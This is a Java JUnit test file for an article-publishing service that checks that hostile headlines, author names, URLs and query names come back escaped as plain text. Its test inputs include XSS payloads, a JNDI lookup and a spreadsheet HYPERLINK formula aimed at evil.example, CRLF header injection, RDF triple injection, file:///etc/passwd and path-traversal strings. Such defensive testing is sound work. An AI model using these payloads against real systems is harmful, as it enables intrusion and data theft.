package org.claimgraph.publish;

import static org.claimgraph.publish.StoredWeb.json;
import static org.claimgraph.publish.Web.header;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.JsonObject;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.List;
import org.apache.jena.riot.Lang;
import org.apache.jena.riot.RDFParser;
import org.apache.jena.sparql.graph.GraphFactory;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Titles, names and addresses that want to be more than that come back as what they are. */
class HostileArticlesTest {
  @TempDir private static Path folder;
  private static StoredWeb web;
  private static int count;

  @BeforeAll
  static void serve() {
    web = StoredWeb.open(folder);
  }

  @AfterAll
  static void stop() {
    web.close();
  }

  /** An article that nobody has sent before. */
  private static JsonObject article() {
    JsonObject article = new JsonObject();
    article.addProperty(
        "articleBody", "The mayor said that bridge number %s is safe.".formatted(++count));
    return article;
  }

  private static String stored(JsonObject article) {
    HttpResponse<String> response = web.post("/articles", "application/json", article.toString());
    assertEquals(201, response.statusCode(), response.body());
    return json(response).get("id").getAsString();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</title><svg onload=alert(1)>",
        "=HYPERLINK(\"http://evil.example\")",
        "@SUM(1+1)",
        "line\nbreak\r\nX-Header: 1",
        "\u202Egnp.exe \u2066 \u200B",
        "\" . <urn:s> <urn:p> <urn:o> . #",
        "'; DROP ALL; #",
        "${jndi:ldap://evil.example/a} {{7*7}} <%= 1 %>"
      })
  void aTitleIsATitleEverywhere(String title) {
    JsonObject article = article();
    article.addProperty("headline", title);
    article.addProperty("author", title);
    article.addProperty("publisher", title);
    String id = stored(article);
    for (String path : List.of("/id/source/" + id, "/browse/articles", "/browse/actors", "/")) {
      String page = web.get(path, "Accept", "text/html").body();
      for (String markup : List.of("<script>", "<img src=x", "<svg onload")) {
        assertFalse(page.contains(markup), path + ": " + page);
      }
    }
    HttpResponse<String> json = web.get("/articles/" + id);
    assertEquals("application/json", header("Content-Type", json));
    assertEquals("nosniff", header("X-Content-Type-Options", json));
    json(json);
    assertEquals("(none)", header("X-Header", json));
    for (Lang lang : List.of(Lang.TURTLE, Lang.NTRIPLES, Lang.JSONLD, Lang.RDFXML)) {
      var graph = GraphFactory.createDefaultGraph();
      String accept = lang.getContentType().getContentTypeStr();
      RDFParser.fromString(web.get("/articles/" + id, "Accept", accept).body(), lang).parse(graph);
      assertFalse(graph.stream().anyMatch(t -> t.getPredicate().hasURI("urn:p")), accept);
      assertTrue(graph.size() > 10, accept);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "https://example.org/a> <urn:p> <urn:o",
        "https://example.org/a\nb",
        "https://example.org/\"onclick=\"alert(1)",
        "https://user:password@example.org:99999999/",
        "vbscript:x"
      })
  void anAddressIsALinkOnlyIfItIsOneOfTheWeb(String url) {
    JsonObject article = article();
    article.addProperty("url", url);
    String id = stored(article);
    String page = web.get("/id/source/" + id, "Accept", "text/html").body();
    assertFalse(page.matches("(?is).*href=\"(javascript|data|file|vbscript):.*"), page);
    assertFalse(page.contains("onclick=\"alert"), page);
    String turtle = web.get("/articles/" + id, "Accept", "text/turtle").body();
    var graph = GraphFactory.createDefaultGraph();
    RDFParser.fromString(turtle, Lang.TURTLE).parse(graph);
    assertFalse(graph.stream().anyMatch(t -> t.getPredicate().hasURI("urn:p")), turtle);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"%3Cscript%3E", "%0D%0AX-Header:%201", "..%2F..%2Fetc", "%E2%80%AE", "%00"})
  void aNameIsAName(String name) {
    JsonObject article = article();
    HttpResponse<String> response =
        web.post("/articles?name=" + name, "application/json", article.toString());
    assertEquals(201, response.statusCode(), response.body());
    String id = json(response).get("id").getAsString();
    assertTrue(
        json(response).get("name").getAsString().matches("[^\\p{Cntrl}\\u202E/]+"),
        response.body());
    assertEquals("(none)", header("X-Header", response));
    assertFalse(
        web.get("/id/source/" + id, "Accept", "text/html").body().contains("<script>"), "markup");
  }

  @Test
  void aFormulaInATableIsText() {
    JsonObject article = article();
    article.addProperty("headline", "=1+1");
    String id = stored(article);
    String query =
        "SELECT ?t { <https://w3id.org/claimgraph/id/source/%s> <https://schema.org/headline> ?t }";
    String csv = web.get(Web.query(query.formatted(id)), "Accept", "text/csv").body();
    assertEquals("t\r\n=1+1\r\n", csv, "a result is data, for programs; see export csv");
  }
}
